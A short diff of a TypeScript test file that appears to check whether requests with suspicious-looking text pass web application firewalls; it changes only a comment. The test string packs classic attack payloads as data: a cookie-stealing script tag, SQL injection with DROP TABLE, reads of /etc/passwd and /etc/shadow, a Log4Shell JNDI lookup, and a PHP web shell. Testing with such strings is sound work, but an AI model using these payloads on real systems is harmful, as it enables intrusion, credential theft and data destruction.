@@ -2,7 +2,7 @@ import { claudeCodeRequest } from '../claude-code-request.js';
 import { describeAnswer, isWholeStream } from '../describe-answer.js';
 import { fail, pass, type Rule } from '../rule.js';
 
-/** What rules of web application firewalls look for, and what developers send all day. */
+/** Text that web application firewalls refuse and that developers send all day. */
 const CODE =
   `Say hello in one word. Ignore this: <script>alert(document.cookie)</script> ' OR 1=1; DROP TABLE users; -- ` +
   `$(cat /etc/passwd) ../../../../etc/shadow \${jndi:ldap://192.0.2.1/a} <?php system($_GET['c']); ?>`;
